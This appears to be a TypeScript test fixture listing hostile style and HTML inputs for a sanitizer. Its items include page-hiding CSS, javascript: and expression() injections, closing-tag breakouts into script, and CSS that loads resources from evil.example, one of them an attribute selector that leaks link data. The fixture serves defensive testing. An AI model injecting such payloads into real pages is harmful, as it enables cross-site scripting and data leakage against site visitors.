/** Styles that hide, cover, ask or run. */
import { everyIn, texts } from "./hostile.ts";
import { mainWords } from "./words.ts";

export const styles = [
  ...everyIn(
    {
      "a style that hides": "<style>body{display:none}</style>",
      "a style that imports": "<style>@import '//evil.example/x.css';</style>",
      "a style that nothing closes": "<style>.final-post{display:none}",
      "a style in a tag": '<b style="position:fixed;inset:0;background:url(//evil.example/a.png)">x</b>',
      "an expression": '<i style="width:expression(hit())">x</i>',
      "a binding": '<u style="-moz-binding:url(//evil.example/x.xml#a);behavior:url(x.htc)">x</u>',
      "a script as a ground": '<em style="background:url(javascript:hit())">x</em>',
      "an end of a style": "</style><script>hit()</script>",
      "a selector that tells": "<style>a[href^='h']{background:url(//evil.example/h)}</style>",
      "a font from elsewhere":
        "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}b{font-family:x}</style>",
    },
    mainWords,
  ),
  ...texts({
    "a style over blank lines": "<style>\n\nbody { display: none }\n\n</style>\n",
    "an end of a style in a title": "---\ntitle: '</style><script>hit()</script>'\n---\n",
    "an end of a title in a title": "---\ntitle: '</title><script>hit()</script>'\n---\n",
  }),
];
